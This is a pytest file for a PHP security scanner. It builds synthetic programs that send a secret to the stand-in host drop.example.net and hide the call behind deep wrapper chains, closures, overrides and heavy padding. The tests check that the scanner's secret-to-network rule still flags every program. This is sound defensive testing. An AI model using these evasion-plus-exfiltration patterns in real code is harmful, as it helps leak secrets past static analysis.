"""What is bounded in the analysis must not hide what a program sends: an author of hidden code knows the bounds.

Each program exceeds one bound with harmless code and sends a secret beyond it; where the way is guessed, the same
program with a plain value in the place of the secret tells of none.
"""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

import pytest

from scanner.pipeline import ScanOptions, scan

SECRET, PLAIN = "$GLOBALS['salt']", "$GLOBALS['lang']"
HOST = "drop.example.net"
PADDING = "".join(f"    $x{i} = strlen('text number {i}') + {i};\n" for i in range(60))


def _lines(text: str, count: int, first: int = 0) -> str:
    """A line for each number, in the place of `@`; `<` is the number before."""
    return "".join(text.replace("@", str(i)).replace("<", str(i - 1)) + "\n" for i in range(first, count))


def _send(value: str) -> str:
    return f"file_get_contents('https://{HOST}/?s=' . {value});\n"


PROGRAMS = {
    "closures": "function reg($app) {\n"
    + _lines("$app->get('/@', function () { return @; });", 150)
    + f"$app->get('/x', function () {{ {_send(SECRET)} }});\n}}\nreg(new App());",
    "closures inside deep calls": f"function w0() {{ $f = function () {{ {_send(SECRET)} }}; later($f); }}\n"
    + _lines("function w@() { w<(); }", 40, 1)
    + "w39();",
    "calls of sinks": "function f($d) {\n"
    + _lines("$a@ = fopen($d . '/@', 'r');", 150)
    + _send(SECRET)
    + "}\nf($_GET['d']);",
    "calls of wrappers": "function get($u) { return file_get_contents($u); }\nfunction f($d) {\n"
    + _lines("get($d . '/@');", 150)
    + f"get('https://{HOST}/?s=' . {SECRET});\n}}\nf('https://api.example.org');",
    "levels of wrappers": "function w0($u, $p) { $c = curl_init($u); "
    "curl_setopt($c, CURLOPT_POSTFIELDS, $p); curl_exec($c); }\n"
    + _lines("function w@($u, $p) { return w<($u, $p); }", 16, 1)
    + f"w15('https://{HOST}/', {SECRET});",
    "levels of wrappers of file functions": "function w0($u) { return file_get_contents($u); }\n"
    + _lines("function w@($u) { return w<($u); }", 11, 1)
    + f"w10('https://{HOST}/?' . {SECRET});",
    "levels of getters": f"function r0() {{ return {SECRET}; }}\n"
    + _lines("function r@() { return r<(); }", 40, 1)
    + _send("r39()"),
    "properties that one function sets": "class C {\n function __construct($a) {\n"
    + _lines("$this->p@ = $a;", 90)
    + "$this->last = $a;\n }\n function go() { "
    + _send("$this->last")
    + f"}}\n}}\n(new C({SECRET}))->go();",
    "labels": "$s = '';\n"
    + _lines("$s .= $_POST['f@'] . getenv('X@') . file_get_contents('https://h@.example.org/');", 40)
    + f"$s .= {SECRET};\n"
    + _send("$s"),
    "elements": "if ($_GET['a']) { $t = ["
    + _lines("'k@' => 'v@',", 100)
    + "]; } else { $t = ["
    + _lines("'m@' => 'v@',", 100)
    + f"'zs' => {SECRET}, 'zurl' => 'https://{HOST}/']; }}\nfile_get_contents($t['zurl'] . $t['zs']);",
    "methods of a name": _lines("class C@ { function deliver($x) { return @; } }", 9)
    + "class Z { function deliver($x) { "
    + _send("$x")
    + f"}} }}\nfunction go($o) {{ $o->deliver({SECRET}); }}\ngo(unserialize($_POST['o']));",
    "overrides": "abstract class B { abstract function deliver($x); }\n"
    + _lines("class C@ extends B { function deliver($x) { return @; } }", 20)
    + "class Z extends B { function deliver($x) { "
    + _send("$x")
    + f"}} }}\nfunction go(B $o) {{ $o->deliver({SECRET}); }}\ngo(Factory::make($_POST['o']));",
    "long function that keeps": "class C { public $last;\n function keep($a) {\n"
    + PADDING
    + "$this->last = $a;\n } }\n"
    + f"$c = new C; $c->keep({SECRET});\n"
    + _send("$c->last"),
    "long function that gives": f"class C {{ private $k;\n function init() {{ $this->k = {SECRET}; }}\n"
    "function parts() {\n"
    + PADDING
    + "return [1, $this->k];\n } }\n$c = new C(); $c->init();\n"
    + _send("$c->parts()[1]"),
    "long function between stores": f"class R {{ static $v; }}\nclass A {{ function load() {{ R::$v = {SECRET}; }} }}\n"
    "class B { public $q;\n function copy() {\n"
    + PADDING
    + "$this->q = R::$v;\n } }\n$a = new A; $a->load(); $b = new B; $b->copy();\n"
    + _send("$b->q"),
    "objects of one value": "class A { public $all = []; function add($p) { $this->all[] = $p; } }\n"
    "function pick($k, $p) { $o = null;\n"
    + _lines("if ($k == @) { $o = new A; $o->add('@' . $p); }", 60)
    + "$o->add($p); return $o; }\nfunction outer($k, $p) { $o = pick($k, $p); return $o; }\n"
    f"$o = outer($_GET['k'], {SECRET});\n" + _send("$o->all[0]"),
    "statements": "function f() {\n" + _lines("$a@ = 1;", 21_000) + _send(SECRET) + "}\nf();",
}


def _secrets(folder: Path, program: str) -> Iterable[tuple[str, ...]]:
    (folder / "a.php").write_text("<?php\n" + program, "utf-8")
    report = scan(str(folder), ScanOptions(jobs=1, cache=None))
    assert not report.coverage.incomplete
    return [
        finding.secrets
        for finding in report.findings
        if finding.rule == "secret-to-network" and HOST in finding.destinations and finding.severity == "critical"
    ]


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_bound_hides_no_secret(name: str, tmp_path: Path) -> None:
    assert ("salt",) in _secrets(tmp_path, PROGRAMS[name])


@pytest.mark.parametrize(
    "name", [name for name in PROGRAMS if name.startswith(("long", "methods", "overrides", "elem"))]
)
def test_the_same_program_without_the_secret_tells_of_none(name: str, tmp_path: Path) -> None:
    assert not _secrets(tmp_path, PROGRAMS[name].replace(SECRET, PLAIN))
